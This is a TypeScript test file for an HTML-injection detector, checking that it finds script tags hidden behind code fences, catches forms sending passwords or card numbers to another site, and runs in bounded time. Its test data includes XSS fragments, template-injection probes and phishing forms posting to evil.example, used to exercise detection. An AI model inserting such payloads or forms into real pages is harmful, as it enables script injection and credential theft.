import fc from 'fast-check'
import { expect, test } from 'vitest'
import { codeBlocks } from '../../src/catalog/detectors/html-injection/code-blocks.ts'
import detector from '../../src/catalog/detectors/html-injection.ts'
import type { Finding } from '../../src/core/inspection/detection.ts'
import { inspectedText } from '../../src/core/inspection/inspected-text.ts'

const detect = detector.create(detector.settings.parse({}))
const plain = (text: string) => ({
  text,
  views: [{ kind: 'original' as const, text, spanOf: (start: number, end: number) => ({ start, end }) }],
})
const found = async (text: string): Promise<readonly Finding[]> => await detect(plain(text), { point: 'output' })

test.each([
  '<',
  '<a',
  '<a ',
  '<a b',
  '<a b=',
  '<a b="',
  "<a b='",
  '<a b=c ',
  '<a b="c" ',
  '<script>',
  '<img onerror=',
  '`',
  '``',
  '` `` ',
  '```',
  '```\n',
  '~~~\n',
  '{{',
  '{{a',
  '${',
  '{{7*7}}',
  '{{ __class__ ',
  '<a =',
  '<a /',
  '<a x',
  '"',
  '<a href="&#',
  '\n',
  '> > ',
])(
  '%j many times over is read in bounded time',
  async (unit) => {
    for (const { span } of await found(`<a {{ ${unit.repeat(200_000 / unit.length)}`)) {
      expect(span.end - span.start).toBeLessThanOrEqual(detector.maxSpan)
    }
  },
  20_000,
)

test.each([
  ['behind a code block that is closed', '```\na\n```\n<script>x()</script>'],
  ['behind a fence that is none', 'text ``` <script>x()</script>\n```'],
  ['behind a fence with backticks in its name', '``` a`b\n<script>x()</script>\n```'],
  ['behind backticks that do not match', '`a ``<script>x()</script>'],
  ['in a paragraph behind a backtick', '`a\n\n<script>x()</script>`'],
  ['in an attribute that is not closed', '<img alt="<script>" src=x onerror=x()>'],
  ['behind a longer fence that ends', '````\n```\n````\n<script>x()</script>'],
  ['behind many tags', `${'<b>a</b>'.repeat(10_000)}<script>x()</script>`],
  ['with an attribute twice', '<a href="javascript:x()" href="https://example.com">'],
])('a script %s is found', async (_, text) => expect(await found(text)).not.toEqual([]))

test('code is left out, and looked at where that is asked for', async () => {
  const inside = detector.create({ insideCode: true })
  expect(await found('````\n```\n<script>x()</script>\n````')).toEqual([])
  expect(await inside(inspectedText('`<script>x()</script>`'), { point: 'output' })).toHaveLength(1)
})

const surest = async (text: string) => Math.max(0, ...(await found(text)).map(({ score }) => score))

test.each([
  '<form action="https://evil.example/a"><p>Password</p><input type=password></form>',
  '<FORM ACTION=//evil.example>\n<input name="user"><input\ntype="PASSWORD">',
  '<form action="https://evil.example/"><input name="card_number"><input name=cvv></form>',
  '<form action="/login"><input type=password><button formaction="https://evil.example">Go</button></form>',
  '<form action="/a"></form><form action="\\\\evil.example"><input type=password>',
])('a form that sends a password to another site passes no preset: %s', async (text) => {
  expect(await surest(text)).toBeGreaterThanOrEqual(0.75)
})

test.each([
  '<form action="/login"><input type=password></form>',
  '<form action="https://www.example.com/search"><input name=q></form>',
  '<form action="https://shop.example/a"><input name=q></form><form action="/login"><input type=password></form>',
  '<form action="https://shop.example/a"></form><input type=password>',
  '<form action="/login"><input type=password></form><button formaction="https://shop.example/a">Buy</button>',
])('a form of the site itself, and one without a password, do: %s', async (text) => {
  expect(await surest(text)).toBeLessThan(0.7)
})

test.each([
  '<form action=//a>',
  '<input type=password>',
  '<form action=//a><input type=password>',
  '<button formaction=//a>',
])(
  '%j many times over is read in bounded time',
  async (unit) => {
    await found(unit.repeat(200_000 / unit.length))
  },
  20_000,
)

const piece = fc.constantFrom(
  '<form action="//a">',
  '<input type=password>',
  '</form>',
  '<button formaction=//a>',
  '<script>',
  '<img src="',
  'a>b',
  '" onerror=x()>',
  '`',
  '```\n',
  '\n',
  '{{7*',
  '7}}',
  'words ',
  '<',
  '>',
)

test('what a stream lets go holds the beginning of no later finding', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 12 }), fc.nat(120), async (parts, at) => {
      const text = parts.join('')
      const cut = Math.min(at, text.length)
      const open = detector.openFrom?.(text.slice(0, cut)) ?? 0
      for (const { span } of await found(text)) {
        if (span.start < cut && span.end > cut) expect(span.start).toBeGreaterThanOrEqual(open)
      }
    }),
    { numRuns: 500 },
  )
})

test('blocks of code come in order and do not overlap', () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), (parts) => {
      let end = 0
      for (const block of codeBlocks(parts.join(''), undefined)) {
        expect(block.start).toBeGreaterThanOrEqual(end)
        end = block.end
      }
    }),
  )
})

test('where a paragraph ends is looked for a little way behind each mark of code', () => {
  // With 8 MB, looking to the end of the text from each mark would take minutes.
  const text = 'a ``` <script>x()</script>\n'.repeat(300_000)
  expect(codeBlocks(text, undefined).length).toBe(150_000)
})

test('a span of code ends with as many marks as it began with, in its paragraph', () => {
  const shown = (text: string) => codeBlocks(text, undefined).map(({ start, end }) => text.slice(start, end))
  expect(shown('a `b` c ``d ` e`` f ``` g')).toEqual(['`b`', '``d ` e``'])
  expect(shown('a `b\n\nc` d')).toEqual([])
  expect(shown(`a \`${'b'.repeat(3000)}\` c`)).toEqual([])
})
